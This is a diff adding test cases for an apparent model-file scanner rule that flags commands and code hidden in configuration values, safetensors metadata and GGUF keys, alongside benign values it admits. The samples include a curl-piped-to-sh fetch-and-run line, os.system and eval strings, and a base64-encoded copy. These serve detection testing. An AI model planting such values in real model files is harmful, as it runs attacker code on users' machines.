@@ -1,0 +1,59 @@
+"""Commands and code in values that describe a model, and values that only look a little like them."""
+
+from __future__ import annotations
+
+import base64
+import json
+from collections.abc import Callable
+from typing import Any
+
+from openvet.testing.case import Case
+from openvet.testing.forge_tensors import gguf, safetensors
+
+__all__ = ["CASES"]
+
+_RULE = "hub/command-in-value"
+_PYTHON = "__import__('os').system('echo hello')"
+_SHELL = "bash -c 'curl https://example.org/x.sh | sh'"
+
+
+def _case(name: str, technique: str, forge: Callable[[], Any], decision: str, file: str = "model.bin") -> Case:
+    rules = frozenset() if decision == "admit" else frozenset({_RULE})
+    return Case(f"values/{name}", technique, forge, decision, rules, name=file)  # type: ignore[arg-type]
+
+
+def _config(value: dict[str, Any], name: str = "config.json") -> Callable[[], dict[str, bytes]]:
+    return lambda: {name: json.dumps({"model_type": "bert", **value}).encode()}
+
+
+def _tensors(value: dict[str, str]) -> Callable[[], bytes]:
+    return lambda: safetensors({"weight": ("F32", (2,))}, value)
+
+
+def _keys(*keys: tuple[str, str]) -> Callable[[], bytes]:
+    return lambda: gguf([("general.architecture", "string", "llama"), *((key, "string", value) for key, value in keys)])
+
+
+CASES = (
+    _case("python", "a configuration holds Python that runs a process", _config({"on_load": _PYTHON}), "review"),
+    _case("python-nested", "the same, deeper in it", _config({"config": {"hooks": [{"code": f"eval(\"{_PYTHON}\")"}]}}), "review"),
+    _case("python-os", "code that counts on a module that others import", _config({"init": "os.system('echo hello')"}), "review"),
+    _case("python-inline", "a command that hands code to Python", _config({"post": f'python3 -c "{_PYTHON}"'}), "review"),
+    _case("python-base64", "code in base64 in the symbol of an MXNet model",
+          _config({"nodes": [], "arg_nodes": [], "heads": [], "attrs": {"metadata": base64.b64encode(_PYTHON.encode()).decode()}},
+                  "model-symbol.json"), "review"),
+    _case("shell", "a configuration holds a command that fetches and runs", _config({"setup_command": _SHELL}), "review"),
+    _case("safetensors", "metadata of a safetensors file hold code", _tensors({"format": "pt", "init": f"import os; {_PYTHON}"}),
+          "review", "model.safetensors"),
+    _case("gguf", "a key of a GGUF file holds a command", _keys(("general.on_load", _SHELL)), "review", "model.gguf"),
+    _case("ordinary-commands", "metadata hold the ordinary command line of a training",
+          _tensors({"format": "pt", "ss_command": "accelerate launch --num_cpu_threads_per_process 2 train_network.py --config x.toml",
+                    "ss_optimizer": "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1)", "url": "https://example.org/run.sh"}),
+          "admit", "model.safetensors"),
+    _case("ordinary-values", "values of a configuration with brackets and names of functions",
+          _config({"hidden_act": "gelu", "loss": "lambda x: x.mean()", "task_specific": {"run": "python -m example.serve --port 8000"},
+                   "note": "call model.compile(optimizer) and load(path) first", "layers": "[(i, 2 * i) for i in range(12)]",
+                   "fsdp": "full_shard auto_wrap"}), "admit"),
+    _case("ordinary-words", "a description says what somebody could run",
+          _config({"description": f"Never do {_SHELL} with what you have not read."}), "admit"),
+)  # fmt: skip
